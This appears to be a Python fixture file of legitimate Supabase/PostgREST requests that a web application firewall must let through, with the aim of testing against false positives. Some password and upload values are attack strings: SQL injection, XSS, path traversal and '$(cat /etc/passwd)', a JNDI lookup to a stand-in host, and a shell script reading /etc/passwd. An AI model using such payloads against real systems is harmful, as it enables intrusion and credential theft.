"""Requests that applications make, and that the firewall has to pass.

The filters are those of PostgREST's documentation (https://docs.postgrest.org/en/v12/references/api)
as supabase-js writes them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

_JSON = "application/json"


@dataclass(frozen=True)
class Request:
    """A request as a client makes it."""

    method: str
    path: str
    query: Mapping[str, str] | tuple[tuple[str, str], ...] = ()
    headers: Mapping[str, str] = field(default_factory=dict)
    json: object = None
    body: bytes | None = None


def _read(*query: tuple[str, str], **headers: str) -> Request:
    return Request("GET", "/rest/v1/todos", query, headers)


def _write(method: str, path: str, json: object, **headers: str) -> Request:
    return Request(method, path, headers={"Content-Type": _JSON, **headers}, json=json)


def _typed(method: str, path: str, content_type: str, body: bytes) -> Request:
    return Request(method, path, headers={"Content-Type": content_type}, body=body)


TOKEN_LIKE = "eyJhbGciOiJFUzI1NiIsImtpZCI6Im9yIn0.eyJzdWIiOiJhbmQgMT0xIn0.c2VsZWN0IDE-LS0_"

READS: dict[str, Request] = {
    "all": _read(("select", "*")),
    "columns": _read(("select", "id,title,inserted_at")),
    "embedded": _read(("select", "*,todos(*)")),
    "embedded deep": _read(("select", "id,author:users!inner(id,name,posts(id,title)),count")),
    "aggregate": _read(("select", "amount.sum(),category,created_at.max()")),
    "JSON column": _read(("select", "id,data->owner->>name,tags:data->tags")),
    "JSON filter": _read(("data->owner->>name", "eq.Ann")),
    "cast": _read(("select", "id::text,price::int")),
    "equal": _read(("id", "eq.1")),
    "equal uuid": _read(("user_id", "eq.5e1c1c3e-6f0a-4b52-8a31-0c6d3f6f1a11")),
    "equal text with quote": _read(("name", "eq.O'Brien")),
    "comparison": _read(("price", "gte.10"), ("price", "lt.20")),
    "not equal": _read(("id", "neq.1")),
    "like": _read(("title", "like.*water*")),
    "ilike percent": _read(("title", "ilike.%water the%")),
    "ilike any": _read(("title", "ilike(any).{%a%,%b%}")),
    "match": _read(("title", "match.^[A-Z].*s$")),
    "is null": _read(("deleted_at", "is.null")),
    "is true": _read(("done", "is.true")),
    "in": _read(("id", "in.(1,2,3)")),
    "in quoted": _read(("title", 'in.("water the plants","hi,there")')),
    "contains": _read(("tags", "cs.{a,b}")),
    "contains JSON": _read(("data", 'cs.{"a":1,"b":["x"]}')),
    "contained": _read(("tags", "cd.{a,b,c}")),
    "overlaps": _read(("period", "ov.[2026-01-01,2026-06-30]")),
    "range right of": _read(("period", "sr.(2026-01-01,2026-06-30]")),
    "full text": _read(("title", "fts(english).water & plants")),
    "plain full text": _read(("title", "plfts.water the plants")),
    "web full text": _read(("title", 'wfts(english)."water the" or -plants')),
    "not": _read(("id", "not.eq.1")),
    "not in": _read(("status", "not.in.(open,closed)")),
    "or": _read(("or", "(a.eq.1,b.lt.2)")),
    "or and": _read(("or", "(id.eq.1,and(done.is.true,title.ilike.*x*))")),
    "and": _read(("and", "(a.gte.0,a.lte.100,or(b.is.null,b.eq.x))")),
    "not and": _read(("not.and", "(a.gte.0,a.lte.100)")),
    "embedded filter": _read(("select", "*,users(*)"), ("users.name", "eq.Ann")),
    "embedded or": _read(("select", "*,users(*)"), ("users.or", "(age.gt.18,name.eq.x)")),
    "order": _read(("order", "created_at.desc.nullslast,id.asc")),
    "page": _read(("limit", "10"), ("offset", "20"), ("order", "id")),
    "several at once": _read(
        ("select", "*,todos(*)"), ("id", "eq.1"), ("or", "(a.eq.1,b.lt.2)"), ("limit", "1")
    ),
    "time": _read(("created_at", "gte.2026-11-21T09:52:37.893203+00:00")),
    "address": _read(("email", "eq.ann+news@example.com")),
    "URL": _read(("link", "eq.https://example.com/a?b=c&d=e#f")),
    "text of many languages": _read(("title", "eq.Müller, 東京, où?")),
    "text that names SQL words": _read(("title", "eq.select a gift and order it from the union")),
    "range": _read(Range="0-9", **{"Range-Unit": "items"}),
    "count": _read(("select", "*"), Prefer="count=exact"),
    "one object": _read(("id", "eq.1"), Accept="application/vnd.pgrst.object+json"),
    "plan": _read(Accept='application/vnd.pgrst.plan+json; for="application/json"'),
    "CSV": _read(Accept="text/csv"),
    "profile": _read(**{"Accept-Profile": "reporting"}),
    "function by GET": Request("GET", "/rest/v1/rpc/add", (("a", "1"), ("b", "2"))),
    "function with JSON argument": Request("GET", "/rest/v1/rpc/f", (("ids", "{1,2,3}"),)),
    "token": _read(Authorization=f"Bearer {TOKEN_LIKE}"),
    "client information": _read(
        **{"X-Client-Info": "supabase-js/2.58.0; runtime=node", "User-Agent": "node"}
    ),
    "python client": _read(**{"User-Agent": "supabase-py/2.20.0"}),
    "no user agent": _read(**{"User-Agent": ""}),
    "curl": _read(**{"User-Agent": "curl/8.5.0"}),
    "head": Request("HEAD", "/rest/v1/todos", (("select", "*"),), {"Prefer": "count=exact"}),
}

WRITES: dict[str, Request] = {
    "row": _write("POST", "/rest/v1/todos", {"title": "water the plants"}),
    "row with columns": Request(
        "POST",
        "/rest/v1/todos",
        (("columns", '"id","title"'),),
        {"Content-Type": _JSON},
        json=[{"id": 1, "title": "x"}],
    ),
    "rows": _write("POST", "/rest/v1/todos", [{"title": f"number {n}"} for n in range(50)]),
    "many rows": _write(
        "POST", "/rest/v1/todos", [{"id": n, "title": f"number {n}"} for n in range(2000)]
    ),
    "upsert": Request(
        "POST",
        "/rest/v1/todos",
        (("on_conflict", "user_id,id"),),
        {"Content-Type": _JSON, "Prefer": "resolution=merge-duplicates,return=representation"},
        json={"id": 1},
    ),
    "nested JSON": _write("POST", "/rest/v1/todos", {"data": {"a": [1, {"b": None}], "c": True}}),
    "prose": _write(
        "POST",
        "/rest/v1/notes",
        {"text": "It's 5 > 3, isn't it? \"Yes\" & so on:  https://example.com/a?b=c#d (or not)."},
    ),
    "markdown": _write(
        "POST",
        "/rest/v1/notes",
        {"text": "# Title\n\n- **bold** `code`\n- [link](https://e.org)\n"},
    ),
    "languages": _write("POST", "/rest/v1/notes", {"text": "naïve Größe 東京 🙂"}),
    "update": Request(
        "PATCH", "/rest/v1/todos", (("id", "eq.1"),), {"Content-Type": _JSON}, json={"done": True}
    ),
    "replace": Request(
        "PUT", "/rest/v1/todos", (("id", "eq.1"),), {"Content-Type": _JSON}, json={"id": 1}
    ),
    "delete": Request("DELETE", "/rest/v1/todos", (("id", "eq.1"),)),
    "function": _write("POST", "/rest/v1/rpc/add", {"a": 1, "b": 2}),
    "function without arguments": _write("POST", "/rest/v1/rpc/now", {}),
    "profile": _write("POST", "/rest/v1/todos", {"a": 1}, **{"Content-Profile": "reporting"}),
    "single object": _typed(
        "POST", "/rest/v1/todos", "application/vnd.pgrst.object+json", b'{"title": "x"}'
    ),
    "charset": _typed("POST", "/rest/v1/todos", "application/json; charset=utf-8", b'{"a": 1}'),
    "CSV": _typed("POST", "/rest/v1/todos", "text/csv", b"id,title\n1,water\n2,plants\n"),
    "bytes to a function": _typed(
        "POST", "/rest/v1/rpc/save", "application/octet-stream", bytes(range(256))
    ),
    "text to a function": _typed("POST", "/rest/v1/rpc/save", "text/plain", b"just words"),
    "form": _typed("POST", "/rest/v1/todos", "application/x-www-form-urlencoded", b"title=x&a=1"),
}

PASSWORDS = (
    "' OR 1=1--",
    "'; drop table users; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "$(cat /etc/passwd)",
    "${jndi:ldap://x/a}",
    '"><img src=x onerror=alert(1)>',
)
"""A password is any text, and it is hashed: none of these may be refused."""

AUTH: dict[str, Request] = {
    **{
        f"sign-up {password}": _write(
            "POST", "/auth/v1/signup", {"email": "ann@example.com", "password": password}
        )
        for password in PASSWORDS
    },
    **{
        f"sign-in {password}": Request(
            "POST", "/auth/v1/token", (("grant_type", "password"),), {"Content-Type": _JSON},
            json={"email": "ann@example.com", "password": password, "gotrue_meta_security": {}},
        )
        for password in PASSWORDS
    },
    "change of password": _write("PUT", "/auth/v1/user", {"password": PASSWORDS[0]}),
    "change by an administrator": _write(
        "PUT", "/auth/v1/admin/users/5e1c1c3e-6f0a-4b52-8a31-0c6d3f6f1a11",
        {"password": PASSWORDS[1], "user_metadata": {"name": "O'Brien"}},
    ),
    "refresh": Request(
        "POST", "/auth/v1/token", (("grant_type", "refresh_token"),), {"Content-Type": _JSON},
        json={"refresh_token": "bcfmv6qdeicb"},
    ),
    "redirect": Request(
        "POST", "/auth/v1/recover", (("redirect_to", "https://app.example.com/reset?a=b"),),
        {"Content-Type": _JSON}, json={"email": "ann@example.com"},
    ),
    "link of a mail": Request(
        "GET", "/auth/v1/verify",
        (("token", "pkce_2f1e0d"), ("type", "signup"), ("redirect_to", "http://127.0.0.1:3000/")),
    ),
    "API version": _write(
        "POST", "/auth/v1/otp", {"email": "a@b.c"}, **{"X-Supabase-Api-Version": "2024-01-01"}
    ),
    "key set": Request("GET", "/auth/v1/.well-known/jwks.json"),
    "logout": Request("POST", "/auth/v1/logout", (("scope", "global"),)),
}  # fmt: skip

UPLOADS: dict[str, Request] = {
    "bytes": _typed("POST", "/upload/v1/a/b.bin", "application/octet-stream", bytes(range(256))),
    "program": _typed("POST", "/upload/v1/a.sh", "text/x-sh", b"#!/bin/sh\ncat /etc/passwd"),
    "page": _typed("PUT", "/upload/v1/a.html", "text/html", b"<script>alert(1)</script>"),
    "dump": _typed("POST", "/upload/v1/dump.sql", "application/sql", b"drop table users; --"),
    "picture": _typed("POST", "/upload/v1/a b.png", "image/png", b"\x89PNG\r\n\x1a\n\0\0"),
    "resumable": Request(
        "PATCH", "/upload/v1/resumable/1",
        headers={
            "Content-Type": "application/offset+octet-stream", "Tus-Resumable": "1.0.0",
            "Upload-Offset": "0", "Upload-Length": "9",
            "Upload-Metadata": "filename d29ybGQ=,contentType dGV4dC9wbGFpbg==",
        },
        body=b"\0\1'--<a>",
    ),
    "overwrite": Request(
        "POST", "/upload/v1/a.txt", headers={"Content-Type": "text/plain", "x-upsert": "true"},
        body=b"words",
    ),
}  # fmt: skip

LEGITIMATE: dict[str, Request] = {
    f"{group}: {name}": request
    for group, requests in (
        ("read", READS), ("write", WRITES), ("auth", AUTH), ("upload", UPLOADS),
    )
    for name, request in requests.items()
}  # fmt: skip
